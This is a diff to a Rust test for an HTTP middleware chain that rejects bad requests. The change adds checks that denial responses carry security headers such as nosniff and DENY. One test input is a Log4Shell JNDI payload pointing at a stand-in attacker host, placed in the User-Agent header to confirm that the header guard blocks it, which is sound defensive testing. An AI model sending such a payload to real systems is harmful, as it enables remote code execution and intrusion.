@@ -123,15 +123,18 @@ fn issue_chain_first_denial_wins_in_chain_order() {
     let e = start_issue_chain(ISSUE_CHAIN, &es);
     // Fails header_guard (Log4Shell in User-Agent) and jwt_auth (no token): header_guard's code.
     let both_bad = [("user-agent", "${jndi:ldap://evil.example/a}")];
-    e.get("/orders/1", &both_bad)
-        .assert_problem(400, "header_guard.denied_pattern");
+    let d = e.get("/orders/1", &both_bad);
+    d.assert_problem(400, "header_guard.denied_pattern");
+    // The chain's own denials carry header_guard's response headers, as the module's do.
+    assert_eq!(d.header("x-content-type-options"), Some("nosniff"));
     // Good token, bad content type: content_type, before request_signing looks at it.
-    e.post(
+    let d = e.post(
         "/orders?tenant=7",
         &[("authorization", &auth), ("content-type", "text/plain")],
         b"hi",
-    )
-    .assert_problem(415, "content_type.unsupported");
+    );
+    d.assert_problem(415, "content_type.unsupported");
+    assert_eq!(d.header("x-frame-options"), Some("DENY"));
     // Good token and type, no signature / a tampered body / a forged MAC: request_signing.
     e.post("/orders?tenant=7", &[("authorization", &auth), JSON], BODY)
         .assert_problem(401, "signature.missing");
